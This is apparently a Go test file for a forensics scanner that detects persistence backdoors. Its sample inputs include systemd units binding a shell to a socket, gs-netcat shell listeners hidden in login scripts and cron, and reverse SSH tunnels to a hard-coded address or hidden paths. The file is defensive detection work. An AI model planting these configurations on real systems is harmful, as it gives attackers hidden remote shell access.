package shell

import (
	"fmt"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestSocketActivatedShell: a service whose standard input is the connection its socket unit
// accepted and whose program is a shell reading it (inetd's way, by systemd) is a bind shell,
// STRATA-RS-* critical, in several spellings; services that hand the socket to a daemon, or run
// a script with a shell, stay silent.
func TestSocketActivatedShell(t *testing.T) {
	for _, unit := range []string{
		"[Service]\nStandardInput=socket\nExecStart=/bin/sh\n",
		"[Unit]\nDescription=debug\n[Service]\nType=simple\nStandardInput = socket\nStandardOutput=socket\nExecStart=-/usr/bin/bash -i\n",
		"[Service]\nStandardInput=socket\nStandardError=journal\nExecStart=/usr/bin/busybox sh -l\n",
		"[Service]\nExecStart=@/bin/dash dash -s\nStandardInput=socket\n",
	} {
		fs := scanFile("/etc/systemd/system/dbg@.service", unit)
		if len(fs) == 0 || fs[0].Severity != audit.Critical || !fs[0].Is(audit.CategoryReverseShell) {
			t.Errorf("%q: %v", unit, fs)
		}
	}
	for _, unit := range []string{
		"[Service]\nStandardInput=socket\nExecStart=/usr/sbin/sshd -i\n",
		"[Service]\nStandardInput=socket\nExecStart=/bin/sh /usr/lib/app/handle-conn.sh\n",
		"[Service]\nStandardInput=socket\nExecStart=/bin/bash -c 'exec /usr/lib/app/serve'\n",
		"[Service]\nStandardInput=tty\nExecStart=/bin/sh\n",
	} {
		if fs := scanFile("/lib/systemd/system/app@.service", unit); len(fs) > 0 {
			t.Errorf("%q: %v", unit, fs)
		}
	}
}

// TestGsNetcatOptions: gs-netcat serving a shell is found with its options grouped (-liqD) and
// when they come from GSOCKET_ARGS in its environment (how its installer's one-liners keep them
// out of ps), in a login script and a cron job; a gs-netcat relaying a port stays silent.
func TestGsNetcatOptions(t *testing.T) {
	for p, text := range map[string]string{
		"/home/u/.profile":    "killall -0 gs-netcat 2>/dev/null || (GSOCKET_ARGS=\"-s Sec4et -liqD\" SHELL=/bin/bash exec -a -bash gs-netcat)\n",
		"/root/.bashrc":       "export GSOCKET_ARGS='-k /root/.gs.key -lqi'\n(gs-netcat -D &)\n",
		"/etc/cron.d/gs":      "@reboot root gs-netcat -s Sec4et -liD\n",
		"/etc/profile.d/x.sh": "gs-netcat -qs Sec4et -l -e /bin/sh &\n",
	} {
		fs := scanFile(p, text)
		if len(fs) == 0 || fs[0].Rule != RuleNetExec && !fs[0].Is(audit.CategoryReverseShell) {
			t.Errorf("%s: %v", p, fs)
		}
	}
	if fs := scanFile("/root/.bashrc", "gs-netcat -s Sec4et -l -d 127.0.0.1 -p 5432 &\n"); len(fs) > 0 {
		t.Errorf("port relay: %v", fs)
	}
}

// TestRemoteSupportTunnel: a reverse SSH tunnel kept open with a key login to a host its
// configuration names (or a host name) is an administrator's remote-support shape: medium,
// "confirm it is one"; the same to a hard-coded address, with a typed password, a tun device
// or from a hidden place stays high or critical.
func TestRemoteSupportTunnel(t *testing.T) {
	conf := ". /etc/support.conf\n"
	loop := "while true; do\n  ssh -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -i /etc/support/key -R %s \"$USER_AT_HOST\"\n  sleep 30\ndone\n"
	for _, tc := range []struct {
		path, text string
		want       audit.Severity
	}{
		{"/usr/local/sbin/support-tunnel.sh", conf + fmt.Sprintf(loop, "\"$PORT\":localhost:22"), audit.Medium},
		{"/opt/support/tunnel.sh", conf + "exec autossh -M 0 -N -i /etc/support/key -o StrictHostKeyChecking=no -R \"${RPORT}:localhost:${LPORT}\" \"${RUSER}@${RHOST}\"\n", audit.Medium},
		{"/usr/local/bin/t.sh", "while :; do ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 ops@jump.example.org; sleep 10; done\n", audit.Medium},
		{"/usr/local/bin/t.sh", "while :; do ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 root@198.51.100.77; sleep 10; done\n", audit.Critical},
		{"/usr/local/bin/t.sh", conf + "sshpass -p \"$PW\" ssh -N -o ServerAliveInterval=30 -R 2222:localhost:22 \"$USER_AT_HOST\"\n", audit.Critical},
		{"/root/.cache/.t.sh", conf + fmt.Sprintf(loop, "2222:localhost:22"), audit.Critical},
	} {
		fs := scanFile(tc.path, tc.text)
		if len(fs) == 0 || fs[0].Rule != RuleTunnel || fs[0].Severity != tc.want {
			t.Errorf("%s %q: want %s, got %v", tc.path, tc.text, tc.want, fs)
		}
	}
}
